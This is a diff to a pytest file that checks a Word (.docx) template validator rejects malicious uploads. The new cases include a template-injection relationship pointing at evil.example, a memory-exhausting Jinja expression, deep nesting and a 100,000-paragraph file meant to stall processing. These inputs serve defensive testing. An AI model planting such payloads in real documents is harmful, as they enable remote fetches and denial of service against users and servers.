@@ -8,7 +8,7 @@ import pytest
 
 from bulletin.settings import Settings
 from review.config_files import TEMPLATE_FILE, shipped_body
-from review.word_template import NoTemplate, checked, sample_of, text_in
+from review.word_template import NoTemplate, checked, sample_of, text_in, trial_of
 from tests.review.conftest import Browser
 
 SHIPPED = shipped_body(TEMPLATE_FILE)
@@ -44,6 +44,18 @@ def test_the_shipped_template_prints_everything() -> None:
         (b"PK no zip", "不是 Word 的 .docx"),
         (changed("word/styles.xml", "仿宋_GB2312", "楷体_GB2312", **{"word/vbaProject.bin": b"x"}), "有宏"),
         (changed("word/document.xml", "{{", "{{ nothing."), "填不进内容"),
+        (changed("word/document.xml", "{{ issue.masthead.name }}", "{{ 'x' * 9**9 }}"), "填不进内容"),
+        (changed("word/document.xml", "<w:body>", "<w:body>" + "<w:p>" * 300 + "</w:p>" * 300), "填不进内容"),
+        (
+            changed(
+                "word/_rels/document.xml.rels",
+                "</Relationships>",
+                '<Relationship Id="x" TargetMode="External" Target="https://evil.example/t" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+                "</Relationships>",
+            ),
+            "evil.example",
+        ),
     ],
 )
 def test_what_is_no_template_is_refused_in_one_sentence(body: bytes, words: str) -> None:
@@ -69,6 +81,15 @@ def test_a_template_without_the_text_is_refused() -> None:
             made.writestr(info, body)
     with pytest.raises(NoTemplate):
         sample_of(out.getvalue())
+
+
+ENDLESS = changed("word/document.xml", "<w:sectPr", '<w:p w:x="1"/>' * 100_000 + "<w:sectPr")
+"""A template on which the filler looks for each paragraph's end through all that follows: hours of work."""
+
+
+def test_a_template_that_never_ends_is_given_up() -> None:
+    with pytest.raises(NoTemplate, match="没有读完"):
+        trial_of(ENDLESS, limit_s=0.5)
 
 
 def upload(editor: Browser, body: bytes) -> str:
